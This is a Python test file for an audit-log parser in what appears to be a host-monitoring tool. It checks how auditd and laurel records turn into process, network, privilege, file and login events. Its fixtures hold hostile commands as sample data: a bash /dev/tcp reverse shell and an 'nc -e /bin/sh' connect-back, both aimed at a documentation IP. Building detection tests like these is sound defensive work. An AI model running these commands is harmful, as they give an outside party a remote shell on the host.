"""Audit record parsing and assembly (pure; hand-built records in auditd's log format)."""

from __future__ import annotations

import orjson

from cloudwarden.host.auditparse import (
    Assembler,
    HostIdentity,
    iter_laurel,
    iter_raw_log,
    parse_fields,
    parse_log_line,
    parse_netlink,
    parse_sockaddr,
    to_host_events,
)

IDENT = HostIdentity("host-1", "web-1")


def _hex(s: str) -> str:
    return s.encode().hex().upper()


EXEC_LINES = [
    'type=SYSCALL msg=audit(1700000000.100:501): arch=c000003e syscall=59 success=yes exit=0 a0=55d1 a1=55d2 a2=55d3 a3=0 items=2 ppid=100 pid=200 auid=1001 uid=1001 gid=1001 euid=1001 suid=1001 fsuid=1001 egid=1001 sgid=1001 fsgid=1001 tty=pts0 ses=4 comm="bash" exe="/usr/bin/bash" key="cw_exec"\x1dARCH=x86_64 SYSCALL=execve AUID="alice" UID="alice"',
    f'type=EXECVE msg=audit(1700000000.100:501): argc=3 a0="bash" a1="-c" a2={_hex("bash -i >& /dev/tcp/203.0.113.5/4444 0>&1")}',
    'type=CWD msg=audit(1700000000.100:501): cwd="/home/alice"',
    'type=PATH msg=audit(1700000000.100:501): item=0 name="/usr/bin/bash" inode=1 dev=08:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL',
    f'type=PROCTITLE msg=audit(1700000000.100:501): proctitle={_hex("bash")}',
]


def _events(lines: list[str]) -> list:
    out = []
    for aev in iter_raw_log(lines):
        out.extend(to_host_events(aev, IDENT))
    return out


def test_exec_event_assembled_with_hex_argv_cwd_and_login_ids() -> None:
    [ev] = _events(EXEC_LINES)
    assert (ev.kind, ev.action, ev.pid, ev.ppid, ev.auid, ev.session_id) == ("process", "exec", 200, 100, 1001, 4)
    assert ev.argv == ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"] and ev.argv_complete
    assert ev.exe == "/usr/bin/bash" and ev.cwd == "/home/alice" and ev.user == "alice"
    assert ev.extra["key"] == "cw_exec" and ev.host_id == "host-1"


def test_plain_argument_that_looks_like_hex_is_not_decoded() -> None:
    lines = list(EXEC_LINES)
    lines[1] = 'type=EXECVE msg=audit(1700000000.100:501): argc=2 a0="echo" a1="cafe"'
    [ev] = _events(lines)
    assert ev.argv == ["echo", "cafe"]


def test_long_argument_chunks_are_joined() -> None:
    long_arg = "x" * 50 + " y"
    h = _hex(long_arg)
    lines = list(EXEC_LINES)
    lines[1] = f'type=EXECVE msg=audit(1700000000.100:501): argc=2 a0="echo" a1_len={len(long_arg)} a1[0]={h[:40]} a1[1]={h[40:]}'
    [ev] = _events(lines)
    assert ev.argv == ["echo", long_arg] and ev.argv_complete


def test_missing_arguments_mark_argv_incomplete() -> None:
    lines = list(EXEC_LINES)
    lines[1] = 'type=EXECVE msg=audit(1700000000.100:501): argc=3 a0="bash"'
    [ev] = _events(lines)
    assert ev.argv == ["bash"] and not ev.argv_complete


def test_interleaved_serials_assemble_separately_and_failed_exec_is_ignored() -> None:
    other = [ln.replace(":501)", ":502)").replace("pid=200", "pid=300").replace("success=yes", "success=no") for ln in EXEC_LINES]
    lines = [EXEC_LINES[0], other[0], EXEC_LINES[1], other[1], *EXEC_LINES[2:], *other[2:]]
    evs = _events(lines)
    assert [e.pid for e in evs] == [200]  # 502 failed (execvp probing PATH): no process started


def test_connect_with_sockaddr_and_einprogress() -> None:
    sa = "02001F90" + "CB007105" + "0" * 16  # AF_INET, port 8080, 203.0.113.5
    lines = [
        'type=SYSCALL msg=audit(1700000001.000:600): arch=c000003e syscall=42 success=no exit=-115 a0=3 a1=7ffd a2=10 a3=0 items=0 ppid=1 pid=77 auid=1001 uid=1001 gid=1001 euid=1001 suid=1001 fsuid=1001 egid=1001 sgid=1001 fsgid=1001 tty=pts0 ses=4 comm="bash" exe="/usr/bin/bash" key="cw_net"',
        f"type=SOCKADDR msg=audit(1700000001.000:600): saddr={sa}",
        'type=PROCTITLE msg=audit(1700000001.000:600): proctitle="bash"',
    ]
    [ev] = _events(lines)
    assert (ev.kind, ev.action, ev.direction, ev.dst_ip, ev.dst_port) == ("network", "connect", "outbound", "203.0.113.5", 8080)
    assert "failed" not in ev.extra


def test_unix_socket_connect_is_not_network() -> None:
    sa = "0100" + _hex("/run/x.sock")
    lines = [
        'type=SYSCALL msg=audit(1700000001.000:601): arch=c000003e syscall=42 success=yes exit=0 a0=3 a1=7ffd a2=10 a3=0 items=0 ppid=1 pid=77 auid=1001 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=(none) ses=4 comm="x" exe="/usr/bin/x"',
        f"type=SOCKADDR msg=audit(1700000001.000:601): saddr={sa}",
    ]
    assert _events(lines) == []
    assert parse_sockaddr(sa) == {"family": "unix", "path": "/run/x.sock"}


def test_setuid_target_decoded_from_hex_argument() -> None:
    lines = [
        'type=SYSCALL msg=audit(1700000002.000:700): arch=c000003e syscall=105 success=yes exit=0 a0=0 a1=0 a2=0 a3=0 items=0 ppid=1 pid=88 auid=1001 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=4 comm="su" exe="/usr/bin/su"',
    ]
    [ev] = _events(lines)
    assert (ev.kind, ev.action, ev.target_user, ev.extra["target_id"]) == ("privilege", "setuid", "root", "0")


def test_file_watch_event_resolves_relative_name_against_parent() -> None:
    lines = [
        'type=SYSCALL msg=audit(1700000003.000:800): arch=c000003e syscall=257 success=yes exit=3 a0=ffffff9c a1=5 a2=441 a3=1b6 items=2 ppid=1 pid=99 auid=1001 uid=1001 gid=1001 euid=1001 suid=1001 fsuid=1001 egid=1001 sgid=1001 fsgid=1001 tty=pts0 ses=4 comm="bash" exe="/usr/bin/bash" key="cw1_file"',
        'type=CWD msg=audit(1700000003.000:800): cwd="/tmp"',
        'type=PATH msg=audit(1700000003.000:800): item=0 name="/home/alice/.ssh/" inode=5 nametype=PARENT',
        'type=PATH msg=audit(1700000003.000:800): item=1 name="authorized_keys" inode=6 nametype=CREATE',
    ]
    [ev] = _events(lines)
    assert (ev.kind, ev.action, ev.path) == ("file", "create", "/home/alice/.ssh/authorized_keys")


def test_user_records_sshd_login_and_sudo() -> None:
    lines = [
        "type=USER_LOGIN msg=audit(1700000004.000:900): pid=300 uid=0 auid=1001 ses=4 msg='op=login id=1001 exe=\"/usr/sbin/sshd\" hostname=127.0.0.1 addr=127.0.0.1 terminal=/dev/pts/0 res=failed'\x1dUID=\"root\" AUID=\"alice\" ID=\"alice\"",
        f"type=USER_CMD msg=audit(1700000005.000:901): pid=301 uid=1001 auid=1001 ses=4 msg='cwd=\"/home/alice\" cmd={_hex('id -u')} exe=\"/usr/bin/sudo\" terminal=pts/0 res=success'",
    ]
    login, sudo = _events(lines)
    assert (login.kind, login.action, login.user, login.src_ip, login.success) == ("auth", "login_failure", "alice", "127.0.0.1", False)
    assert (sudo.kind, sudo.action, sudo.argv, sudo.cwd) == ("privilege", "sudo", ["id", "-u"], "/home/alice")


def test_bad_lines_are_counted_with_file_and_line() -> None:
    errors: list[str] = []
    evs = list(iter_raw_log(["garbage here", *EXEC_LINES, ""], "x.log", errors))
    assert len(evs) == 1 and errors == ["x.log:1: not an audit record (expected 'type=... msg=audit(...)')"]


def test_assembler_is_bounded_and_flushes_on_eoe() -> None:
    asm = Assembler(max_pending=2)
    out = []
    for serial in range(5):
        out += asm.add(parse_netlink(1300, f"audit(1.0:{serial}): arch=c000003e syscall=59 pid=1"), now=0.0)  # type: ignore[arg-type]
    assert len(out) == 3 and len(asm.flush()) == 2
    asm.add(parse_netlink(1300, "audit(1.0:9): arch=c000003e syscall=59 pid=1"), now=0.0)  # type: ignore[arg-type]
    done = asm.add(parse_netlink(1320, "audit(1.0:9): "), now=0.0)  # type: ignore[arg-type]
    assert [e.serial for e in done] == [9]


def test_laurel_json_lines() -> None:
    obj = {
        "ID": "1700000006.000:1000",
        "SYSCALL": {"arch": "0xc000003e", "syscall": 59, "success": "yes", "exit": 0, "ppid": 10, "pid": 11, "auid": 1001,
                    "uid": 0, "euid": 0, "gid": 0, "ses": 4, "comm": "nc", "exe": "/usr/bin/nc.traditional", "key": None},
        "EXECVE": {"argc": 4, "ARGV": ["nc", "-e", "/bin/sh", "203.0.113.5"]},
        "CWD": {"cwd": "/tmp"},
        "PATH": [{"item": 0, "name": "/usr/bin/nc", "nametype": "NORMAL"}],
    }
    errors: list[str] = []
    evs = [h for a in iter_laurel([orjson.dumps(obj).decode(), "{bad json"], "l.json", errors) for h in to_host_events(a, IDENT)]
    assert len(evs) == 1 and evs[0].argv == ["nc", "-e", "/bin/sh", "203.0.113.5"] and evs[0].cwd == "/tmp"
    assert errors and errors[0].startswith("l.json:2:")


def test_parse_fields_enriched_and_nested() -> None:
    f = parse_fields("pid=1 msg='op=x exe=\"/bin/a b\" res=success'\x1dUID=\"root\"")
    assert f["pid"] == "1" and f["exe"] == "/bin/a b" and f["res"] == "success" and f["UID"] == "root"
    rec = parse_log_line('node=n1 type=CWD msg=audit(1.5:2): cwd=2F746D70')
    assert rec is not None and rec.node == "n1" and rec.fields["cwd"] == "/tmp"
